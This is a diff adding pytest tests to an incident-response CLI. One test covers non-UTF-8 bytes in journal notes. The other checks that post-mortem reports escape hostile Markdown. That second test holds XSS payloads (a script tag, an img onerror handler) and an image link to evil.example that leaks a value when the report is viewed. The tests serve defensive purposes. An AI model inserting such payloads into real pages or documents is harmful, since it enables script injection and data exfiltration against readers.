@@ -229,3 +229,49 @@ def test_a_name_or_path_with_a_line_break_is_one_line_of_error(
     assert ran.err.count("\n") == 1, ran.err
     assert ran.err.startswith("aiir: ")
     assert len(ran.err) < 400
+
+
+def test_a_note_or_an_operator_with_a_byte_that_is_not_utf8_is_journaled(
+    tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A bad byte in argv or $AIIR_OPERATOR reaches Python as a lone surrogate ('\\udcff'),
+    which the journal's UTF-8 encoding refused: an internal error, the note lost."""
+    folder = _incident(tmp_path, capsys)
+    where = ["--incident-dir", str(folder.parent)]
+    monkeypatch.setenv("AIIR_OPERATOR", "op\udcfe")
+    noted = aiir(capsys, "note", folder.name, "bad \udcff byte", *where)
+    assert noted.status == 0, noted.err
+    (note,) = [e for e in journal(folder.parent, folder.name) if e.type == "note"]
+    assert note.data["text"] == "bad \ufffd byte"
+    assert note.operator == "op\ufffd"
+    shown = aiir(capsys, "show", folder.name, *where)
+    assert "bad \ufffd byte" in shown.out
+    assert aiir(capsys, "verify", folder.name, *where).status == 0
+
+
+MARKDOWN_ATTACK = (
+    "see <script>alert(1)</script> <img src=x onerror=alert(1)> [click](https://evil.example) "
+    "![](https://evil.example/leak?k=v) `code` a | b\n## Root cause: none\n- [ ] done"
+)
+
+
+def test_a_post_mortem_quotes_hostile_text_without_its_markdown(
+    tmp_path: Path, capsys: Capture
+) -> None:
+    """A note's (or a model's) HTML, links and images went into the post-mortem as Markdown of
+    its own: a script tag, a link to click, an image that fetches a URL when the report is read,
+    and a heading of the attacker's."""
+    folder = _incident(tmp_path, capsys)
+    where = ["--incident-dir", str(folder.parent)]
+    noted = aiir(capsys, "note", folder.name, MARKDOWN_ATTACK, *where)
+    assert noted.status == 0, noted.err
+    ran = aiir(capsys, "report", folder.name, *where)
+    assert ran.status == 0, ran.err
+    (row,) = [line for line in ran.out.splitlines() if "Note by" in line]
+    assert row.endswith(
+        "| Note by tester: see \\<script\\>alert(1)\\</script\\> \\<img src=x onerror=alert(1)\\> "
+        "\\[click\\](https://evil.example) !\\[\\](https://evil.example/leak?k=v) \\`code\\` "
+        "a \\| b ## Root cause: none - \\[ \\] done |"
+    )
+    assert "<script" not in ran.out.replace("\\<script", "")
+    assert "\n## Root cause: none" not in ran.out
